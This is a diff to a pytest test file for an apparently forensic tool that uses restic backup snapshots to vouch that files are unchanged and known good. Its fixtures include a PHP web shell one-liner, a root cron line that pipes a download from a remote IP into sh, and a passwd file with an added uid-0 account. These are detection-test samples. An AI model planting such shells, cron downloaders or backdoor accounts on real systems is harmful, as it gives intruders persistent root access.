@@ -5,17 +5,22 @@ from __future__ import annotations
 import os
 import shutil
 import subprocess
+from collections.abc import Iterator
 from pathlib import Path
 
 import pytest
 
+from pratique.case.answer import read_answer
 from pratique.case.evidence_tables import tables_of
-from pratique.case.examine import conclude_again, examine
+from pratique.case.examine import Examined, conclude_again, examine
 from pratique.case.folder import find
 from pratique.case.past import open_known, remembered
+from pratique.cli.watch_progress import Quiet
 from pratique.dating.bounds import Trust
 from pratique.errors import HistoryError
-from pratique.history.sighting import Bound, HistoryRow, Sighting, SnapshotRow
+from pratique.history.sighting import Bound, HistoryRow, LongStanding, Sighting, SnapshotRow
+from pratique.model import Verdict
+from pratique.story.verdict import FileVerdict
 
 SHELL = b"<?php @eval($_POST['c']); ?>\n"
 CRON = b"* * * * * root curl -s http://203.0.113.5/x | sh\n"
@@ -45,6 +50,9 @@ class Watching:
 
     def dated(self, history, done, total):
         self.told.append((history, done, total))
+
+    def compared(self, history, files):
+        pass
 
 
 @pytest.fixture(scope="module")
@@ -187,3 +195,96 @@ def test_the_repository_of_etc_is_asked_by_itself_and_trusted_little(lived, here
         assert {b.trust for b in tables.rows(Bound) if b.basis == "snapshot"} == {Trust.LOW.word}
     known = open_known(done.case, ())
     assert [name for name, _history in known.histories] == ["evidence:/etc/.git"]
+
+
+PASSWD = b"root:x:0:0:root:/root:/bin/bash\n"
+SECOND = PASSWD + b"spare:x:0:0::/tmp:/bin/bash\n"
+PAGE, TOOL = b"<html>hello</html>\n", b"#!/bin/sh\nexec true\n"
+
+
+def write(root: Path, files: dict[str, bytes]) -> None:
+    for name, content in files.items():
+        (root / name).parent.mkdir(parents=True, exist_ok=True)
+        (root / name).write_bytes(content)
+
+
+@pytest.fixture(scope="module")
+def kept(tmp_path_factory) -> tuple[Path, Path]:
+    """A machine with a second root since its last day, and its restic repository of 11 days."""
+    if shutil.which("restic") is None:
+        pytest.skip("restic is not installed")
+    base = tmp_path_factory.mktemp("past")
+    root, repository = base / "root", base / "restic"
+    first = {"etc/passwd": PASSWD, "var/www/html/index.html": PAGE, "usr/local/bin/tool": TOOL}
+    write(root, {**first, "etc/motd": b"old\n"})
+    _restic(repository, "init", "-q")
+    for day in (1, 8, 10):
+        if day == 8:
+            write(root, {"etc/motd": b"new\n", "var/www/html/new.html": PAGE})
+        _restic(repository, "backup", "-q", "--time", f"2026-10-{day:02} 03:00:00", ".", cwd=root)
+    write(root, {"etc/passwd": SECOND})
+    _restic(repository, "backup", "-q", "--time", "2026-10-11 03:00:00", ".", cwd=root)
+    return root, repository
+
+
+def _restic(repository: Path, *arguments: str, cwd: Path | None = None) -> None:
+    subprocess.run(
+        ["restic", "-r", str(repository), "--no-cache", *arguments],
+        check=True, capture_output=True, cwd=cwd, env={**os.environ, "RESTIC_PASSWORD": "x"},
+    )  # fmt: skip
+
+
+@pytest.fixture(scope="module")
+def vouched(kept, tmp_path_factory) -> Iterator[Examined]:
+    root, repository = kept
+    case = tmp_path_factory.mktemp("vouched") / "case"
+    histories = (f"restic:{repository}",)
+    with pytest.MonkeyPatch.context() as environment:
+        environment.setenv("RESTIC_PASSWORD", "x")
+        yield examine(root, case, Quiet(), processes=1, histories=histories)
+
+
+def verdicts(done: Examined) -> dict[str, FileVerdict]:
+    with tables_of(done.case, done.evidence) as tables:
+        return {row.path: row for row in tables.rows(FileVerdict)}
+
+
+def test_what_stood_unchanged_since_well_before_is_known_good(vouched, kept):
+    found = verdicts(vouched)
+    for path in ("/var/www/html/index.html", "/usr/local/bin/tool"):
+        told = found[path]
+        assert (told.verdict, told.proof) == (Verdict.KNOWN_GOOD, "history")
+        assert told.reasons[0].startswith("unchanged since snapshot ")
+        assert told.reasons[0].endswith(f" of 2026-10-08 in restic:{kept[1]}")
+    assert found["/etc/passwd"].proof == ""
+    assert found["/etc/passwd"].verdict != Verdict.KNOWN_GOOD
+    coverage = vouched.answer.coverage
+    unchanged = [path for path, row in found.items() if row.proof == "history"]
+    assert (coverage.files_long_unchanged, coverage.files_known_good) == (len(unchanged), 0)
+
+
+def test_the_answer_says_which_snapshot_vouches_and_why(vouched):
+    (one,) = vouched.answer.history.unchanged
+    assert one.files == 4
+    assert one.why == "the newest that is 2 days older than the last snapshot without a trace"
+    assert read_answer(vouched.case.findings(vouched.evidence)) == vouched.answer
+
+
+def test_to_conclude_again_comes_to_the_same(vouched):
+    again = conclude_again(vouched.case, Quiet())
+    assert again.answer.history.unchanged == vouched.answer.history.unchanged
+    assert again.answer.coverage == vouched.answer.coverage
+
+
+def test_a_history_on_the_suspect_disk_itself_vouches_for_nothing(kept, tmp_path, monkeypatch):
+    monkeypatch.setenv("RESTIC_PASSWORD", "x")
+    root = tmp_path / "root"
+    shutil.copytree(kept[0], root)
+    shutil.copytree(kept[1], root / "backup")
+    histories = (f"restic:{root / 'backup'}",)
+    done = examine(root, tmp_path / "case", Quiet(), processes=1, histories=histories)
+    assert "the intruder may have written it" in done.answer.history.unchanged[0].why
+    assert done.answer.coverage.files_long_unchanged == 0
+    with tables_of(done.case, done.evidence) as tables:
+        assert [row.trust for row in tables.rows(HistoryRow)] == ["low"]
+        assert list(tables.rows(LongStanding)) == []
